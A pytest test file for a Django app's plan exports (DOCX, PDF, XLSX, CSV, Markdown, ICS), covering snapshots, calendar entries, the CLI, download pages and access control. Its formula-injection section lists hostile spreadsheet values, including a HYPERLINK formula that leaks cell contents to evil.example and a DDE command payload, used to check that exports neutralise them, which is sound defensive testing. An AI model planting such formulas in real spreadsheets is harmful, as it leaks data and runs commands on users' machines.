"""Every export of a plan, compared with its snapshot (DOCX and PDF as text, XLSX and CSV read back, ICS parsed),
formula-safe spreadsheets, the CLI, the plan page's buttons and the bounded cost of an export."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from icalendar import Calendar
from openpyxl import load_workbook

from accord.reports.exports import FORMATS, file_name, load_plan_export, render
from accord.reports.exports.cells import neutralise, restore
from accord.testing import factories as f
from tests.reports.conftest import TODAY, assert_snapshot, docx_text, pdf_text

BASE = "https://accord.example.org"


def _export(plan, **kw):
    return load_plan_export(plan, base_url=BASE, today=TODAY, **kw)


def test_docx_snapshot(rich_plan):
    assert_snapshot("plan.docx.txt", docx_text(render(_export(rich_plan), "docx")))


def test_docx_without_the_status_column(rich_plan):
    text = docx_text(render(_export(rich_plan, status_column=False), "docx"))
    assert "What? | Who? | When?\n" in text and "Status\n" not in text.split("[table", 1)[1].split("\n")[1]


def test_pdf_snapshot(rich_plan):
    data = render(_export(rich_plan), "pdf")
    assert data.startswith(b"%PDF-")
    assert_snapshot("plan.pdf.txt", pdf_text(data))


def test_markdown_snapshot(rich_plan):
    assert_snapshot("plan.md", render(_export(rich_plan), "md").decode())


def test_csv_read_back(rich_plan):
    data = render(_export(rich_plan), "csv")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert_snapshot("plan.csv", "\n".join(" ¦ ".join(r) for r in rows) + "\n")
    assert rows[0][:6] == ["Plan", "No.", "Section", "What", "Owners", "When"]
    assert len(rows) == 1 + 5


def test_xlsx_read_back_every_cell_a_string(rich_plan):
    data = render(_export(rich_plan), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = [[c.value or "" for c in row] for row in sheet.iter_rows()]
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value is not None)
    assert_snapshot("plan.xlsx.txt", "\n".join(" ¦ ".join(r) for r in rows) + "\n")


def test_ics_parsed(rich_plan):
    cal = Calendar.from_ical(render(_export(rich_plan), "ics"))
    events = {str(e["summary"]): e for e in cal.walk("VEVENT")}
    assert "Stakeholder mapping" not in events  # no time, no calendar entry
    assembly = events["General Assembly"]
    assert str(assembly["status"]) == "TENTATIVE"
    assert assembly.decoded("dtstart") == dt.date(2021, 11, 22)
    assert assembly.decoded("dtend") == dt.date(2021, 11, 29)  # the day after the last, all day
    course = events["Maintaining the online course"]
    assert (course.decoded("dtstart"), course.decoded("dtend")) == (dt.date(2021, 7, 1), dt.date(2022, 1, 1))
    assert "When (as written): Ongoing" in str(course["description"])
    assert str(events["Trio exchange on how we communicate"]["status"]) == "CONFIRMED"
    assert_snapshot("plan.ics", render(_export(rich_plan), "ics").decode().replace("\r\n", "\n"))


def test_who_is_the_words_as_written_until_the_owners_change(rich_plan):
    items = {i.what: i for i in _export(rich_plan).items()}
    assert items["Trio exchange on how we communicate"].who == "ZSI/DLR-PT/CNRS"
    assert items["Pilot trainings"].who == "VUB / ZSI"  # re-owned in Accord after its import
    assert items["Stakeholder mapping"].who == "Any volunteers?"


def test_head_has_period_theme_chair_trio_and_status(rich_plan):
    head = dict(_export(rich_plan).head_lines())
    assert head["Period"] == "July – December 2021"
    assert head["Chaired by"] == "DLR-PT Brussels Office"
    assert head["Trio"] == "ZSI (previous chair) · DLR-PT Brussels Office (chair) · CNRS (next chair)"
    assert head["Guiding theme"] == "“Testing the exports”"


def test_file_names_are_safe(rich_plan):
    export = _export(rich_plan)
    assert file_name(export, "docx") == "draft-work-programme-n2-2021-07.docx"
    assert {file_name(export, k).rsplit(".", 1)[1] for k in FORMATS} == {"docx", "pdf", "xlsx", "csv", "md", "ics"}


# Formula injection --------------------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_and_restore_are_exact_inverses(text):
    safe = neutralise(text)
    assert safe.startswith("'")
    assert restore(safe) == text
    assert restore(neutralise(safe)) == safe


def test_plain_text_is_left_alone():
    for text in ["Workshop", "2021-07-01", "ZSI / DLR-PT", "'quoted", ""]:
        assert neutralise(text) == text == restore(text)


@pytest.fixture
def hostile_plan(network):
    plan = f.make_plan(network, title='=HYPERLINK("http://evil.example")')
    section = f.make_section(plan, "@SUM(1)", number="1")
    for n, what in enumerate(DANGEROUS):
        f.make_item(section, what, who_text="+cmd|' /C calc'!A0", when_text="-1+1", order=n)
    return plan


def test_csv_cells_cannot_start_a_formula(hostile_plan):
    rows = list(csv.reader(io.StringIO(render(_export(hostile_plan), "csv").decode("utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][3] == "'" + DANGEROUS[0]


def test_xlsx_cells_are_strings_even_when_they_look_like_formulas(hostile_plan):
    data = render(_export(hostile_plan), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    assert sheet["D2"].value == DANGEROUS[0]  # the text itself, not a formula and not escaped
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read("xl/worksheets/sheet1.xml")


# Cost, CLI and the plan page ------------------------------------------------------------------------------------


def test_an_export_costs_the_same_queries_for_10_or_60_items(network, orgs):
    counts = []
    for n in (10, 60):
        plan = f.make_plan(network, title=f"Plan of {n}")
        section = f.make_section(plan, "Only")
        for i in range(n):
            f.make_item(section, f"Item {i}", owners=[orgs["ZSI"], orgs["CNRS"]], order=i)
        with CaptureQueriesContext(connection) as ctx:
            render(load_plan_export(plan), "csv")
        counts.append(len(ctx.captured_queries))
    assert counts[0] == counts[1] <= 6


def test_cli_writes_each_format(rich_plan, tmp_path):
    for fmt in FORMATS:
        out = io.StringIO()
        call_command("export", str(rich_plan.pk), "--format", fmt, "-o", str(tmp_path), stdout=out)
        assert "export of “Draft Work Programme n°2”" in out.getvalue()
    assert sorted(p.suffix for p in tmp_path.iterdir()) == [".csv", ".docx", ".ics", ".md", ".pdf", ".xlsx"]


def test_cli_refuses_an_unknown_plan(db):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="No plan with the id 999"):
        call_command("export", "999", "--format", "md")


def test_plan_page_offers_every_export_and_each_downloads(client, rich_plan, viewer):
    client.force_login(viewer)
    page = client.get(f"/n/{rich_plan.network.slug}/plans/{rich_plan.pk}/").content.decode()
    for fmt in FORMATS:
        url = f"/n/{rich_plan.network.slug}/plans/{rich_plan.pk}/export/{fmt}/"
        assert f'href="{url}"' in page
        response = client.get(url)
        assert response.status_code == 200, fmt
        assert response["Content-Type"] == FORMATS[fmt].media_type
        assert "attachment" in response["Content-Disposition"]
    assert "Send back an edited document" not in page  # a viewer cannot change the plan


def test_export_of_a_plan_the_person_may_not_see_is_404(client, rich_plan, other_network, make_member):
    outsider = make_member(net=other_network)
    client.force_login(outsider)
    assert client.get(f"/n/{rich_plan.network.slug}/plans/{rich_plan.pk}/export/docx/").status_code == 404
    assert client.get(f"/n/{other_network.slug}/plans/{rich_plan.pk}/export/docx/").status_code == 404
